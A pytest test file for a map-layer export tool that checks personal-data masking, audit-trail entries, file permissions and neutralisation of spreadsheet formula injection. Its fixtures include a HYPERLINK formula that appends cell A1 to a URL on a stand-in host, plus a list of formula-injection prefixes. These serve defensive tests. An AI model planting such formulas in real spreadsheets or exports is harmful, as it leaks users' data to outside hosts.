"""Layers as files: every row, masked; no formula; nothing without a line in the trail."""

import csv
import stat
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from sqlalchemy import Engine, text

from gridmap.db import Actor, transaction
from gridmap.errors import CallError, Unavailable
from gridmap.export.actions import export
from gridmap.export.layers import LAYERS
from gridmap.sealing.key_file import KeyFile
from gridmap.sealing.keyring import Key, Keyring
from gridmap.spreadsheets import inert
from tests.drawing import add_home, add_incident, settle

PHONE, NUMBER = "13800001234", "11010519491231002X"
BOMB = '=HYPERLINK("http://a.example/?"&A1,"点我")'
BOMBS = [BOMB, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u3000=1", "＝1", "\n=1"]
KINDS = ("csv", "xlsx", "gpkg", "geojson", "parquet")

Give = Callable[..., Path]


@pytest.fixture
def keys(tmp_path: Path) -> KeyFile:
    return KeyFile(tmp_path / "personal.key")


@pytest.fixture
def town(county: Engine, actor: Actor, keys: KeyFile) -> Engine:
    """Three homes, an adult with numbers, a child, one without age, texts that are formulas."""
    key = keys.sealing(()).current
    with transaction(county, actor) as connection:
        settle(connection, "AAB\nCCC", "111\n222")
        for n, name in enumerate(("欧阳静", "张小宝", "李四")):
            add_home(connection, f"h{n}", 0.5 + n, 1.5)
            connection.execute(
                text(
                    "UPDATE residents SET name = :name, birth_year = :year, phone_sealed = :phone,"
                    " phone_index = :phone, id_number_sealed = :id, id_number_index = :id"
                    " WHERE code = :code"
                ),
                {
                    "code": f"h{n}", "name": name, "year": [1949, 2020, None][n],
                    "phone": key.seal("phone", f"h{n}", PHONE),
                    "id": key.seal("id_number", f"h{n}", NUMBER),
                },
            )  # fmt: skip
        for n, bomb in enumerate(BOMBS):
            add_incident(connection, f"i{n}", (0.5, 0.5) if n else None)
            connection.execute(
                text("UPDATE incidents SET description = :t, address = :t WHERE code = :c"),
                {"t": f"{bomb} 电话 {PHONE}", "c": f"i{n}"},
            )
        for table in ("assets", "organisations"):
            connection.execute(
                text(
                    f"INSERT INTO {table} (code, name, category, geom)"
                    " VALUES ('x', :bomb, 'x', 'SRID=4490;POINT(111.5 38.7)')"
                ),
                {"bomb": BOMB},
            )
    return county


@pytest.fixture
def give(town: Engine, actor: Actor, keys: KeyFile, tmp_path: Path) -> Give:
    """Exports a layer; the file."""

    def give(layer: str, kind: str, reason: str | None = None) -> Path:
        out = tmp_path / f"{layer}.{kind}"
        assert export(town, actor, keys, layer, out, reason) == len(read(out))
        assert not list(tmp_path.glob(".gridmap-*"))
        return out

    return give


def read(path: Path) -> list[dict[str, Any]]:
    """The rows of a file as another program reads them."""
    kind = path.suffix[1:]
    if kind == "csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.DictReader(file))
    if kind == "xlsx":
        rows = openpyxl.load_workbook(path).worksheets[0].iter_rows()
        names = [cell.value for cell in next(rows)]
        found = [list(row) for row in rows]
        assert not [cell for row in found for cell in row if cell.data_type == "f"]
        return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in found]
    frame: pd.DataFrame
    if kind == "parquet":
        located = "geometry" in pd.read_parquet(path).columns
        frame = gpd.read_parquet(path) if located else pd.read_parquet(path)
    else:
        frame = pyogrio.read_dataframe(path)
    return [dict(row) for row in frame.to_dict("records")]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("layer", sorted(LAYERS))
def test_every_layer_can_be_had_in_every_kind_and_is_on_record(
    give: Give, town: Engine, layer: str, kind: str
) -> None:
    rows = read(give(layer, kind))
    assert rows
    wanted = {"grid_code", "role"} if layer == "postings" else {"code"}
    assert wanted <= set(rows[0])
    query = text("SELECT subject, reason, detail FROM audit_entries WHERE action = 'export'")
    with town.connect() as connection:
        (line,) = connection.execute(query).all()
    detail = {"rows": len(rows), "file": f"{layer}.{kind}", "unmasked": False}
    assert tuple(line) == (layer, None, detail)


def test_the_grids_of_another_day_are_those_of_that_day(
    town: Engine, actor: Actor, keys: KeyFile, tmp_path: Path
) -> None:
    with transaction(town, actor) as connection:
        connection.execute(
            text("UPDATE grids SET valid = '[2020-01-01,2024-01-01)' WHERE code LIKE '%001'")
        )
    out = tmp_path / "grids.csv"

    def codes(day: date | None) -> set[str]:
        export(town, actor, keys, "grids", out, as_of=day)
        return {row["code"][-3:] for row in read(out)}

    assert codes(None) == {"002", "003"}
    assert codes(date(2023, 12, 31)) == {"001", "002", "003"}
    assert codes(date(2019, 12, 31)) == set()
    with pytest.raises(CallError, match="no other day"):
        export(town, actor, keys, "buildings", out, as_of=date(2023, 1, 1))


@pytest.mark.parametrize("kind", KINDS)
def test_residents_are_masked_and_children_stay(give: Give, kind: str) -> None:
    out = give("residents", kind)
    (row,) = read(out)
    assert (row["code"], row["name"], row["phone"]) == ("h0", "欧阳*", "138****1234")
    assert row["id_number"] == "有"
    assert not row["birth_year"] or row["birth_year"] != row["birth_year"]


@pytest.mark.parametrize("kind", KINDS)
def test_unmasked_takes_a_reason_and_children_stay_all_the_same(
    give: Give, town: Engine, kind: str
) -> None:
    out = give("residents", kind, "上报市局 13911112222")
    (row,) = read(out)
    assert (row["name"], str(row["phone"]), row["id_number"]) == ("欧阳静", PHONE, NUMBER)
    assert int(row["birth_year"]) == 1949
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with town.connect() as connection:
        query = text("SELECT reason FROM audit_entries WHERE action = 'export'")
        assert connection.scalars(query).all() == ["上报市局 ****"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("reason", [None, "上报市局"])
def test_no_cell_of_a_spreadsheet_is_a_formula(give: Give, kind: str, reason: str | None) -> None:
    for layer in ("incidents", "assets", "organisations"):
        rows = read(give(layer, kind, reason))
        for cell in (str(value) for row in rows for value in row.values() if value is not None):
            try:
                float(cell)  # a number is none
            except ValueError:
                assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), (layer, cell)
    assert BOMB in str(read(give("assets", kind)))


@pytest.mark.parametrize("bomb", BOMBS)
def test_what_a_spreadsheet_might_run_is_put_behind_an_apostrophe(bomb: str) -> None:
    assert inert(bomb) == f"'{bomb}"
    assert inert(f"井盖{bomb}") == f"井盖{bomb}"


@pytest.mark.parametrize("kind", KINDS)
def test_numbers_in_the_texts_of_incidents_are_masked(give: Give, kind: str) -> None:
    told = str(read(give("incidents", kind)))
    assert PHONE not in told
    assert "电话 ****" in told
    assert PHONE in str(read(give("incidents", kind, "上报市局")))


@pytest.mark.parametrize("kind", ["gpkg", "geojson", "parquet"])
def test_shapes_come_back_where_they_lie(give: Give, town: Engine, kind: str) -> None:
    out = give("buildings", kind)
    frame = gpd.read_parquet(out) if kind == "parquet" else pyogrio.read_dataframe(out)
    assert frame.crs.to_epsg() in (4490, 4326)
    with town.connect() as connection:
        query = text("SELECT code, st_x(anchor) AS lon, st_y(anchor) AS lat FROM buildings")
        anchors = {row.code: (row.lon, row.lat) for row in connection.execute(query)}
    for row in frame.itertuples():
        point = row.geometry.representative_point()
        assert (point.x, point.y) == pytest.approx(anchors[row.code], abs=1e-6)


@pytest.mark.parametrize(
    ("layer", "name", "reason", "why"),
    [
        ("accounts", "a.csv", None, "there are"),
        ("audit_entries", "a.csv", None, "there are"),
        ("residents", "a.txt", None, "cannot write"),
        ("residents", "a", None, "cannot write"),
        ("residents", "no/a.csv", None, "does not exist"),
        ("residents", "a.csv", "为何", "say why"),
        ("residents", "a.csv", "      ", "say why"),
    ],
)
def test_a_wrong_call_writes_nothing(
    town: Engine, actor: Actor, keys: KeyFile, tmp_path: Path,
    layer: str, name: str, reason: str | None, why: str,
) -> None:  # fmt: skip
    with pytest.raises(CallError, match=why):
        export(town, actor, keys, layer, tmp_path / name, reason)
    assert not (tmp_path / name).exists()


def test_without_the_key_there_is_no_file_and_no_line(
    town: Engine, actor: Actor, keys: KeyFile, tmp_path: Path
) -> None:
    keys.replace(Keyring([Key.made()]))
    out = tmp_path / "residents.csv"
    with pytest.raises(Unavailable, match="does not hold it"):
        export(town, actor, keys, "residents", out)
    assert not out.exists()
    with town.connect() as connection:
        query = text("SELECT count(*) FROM audit_entries WHERE action = 'export'")
        assert connection.scalar(query) == 0
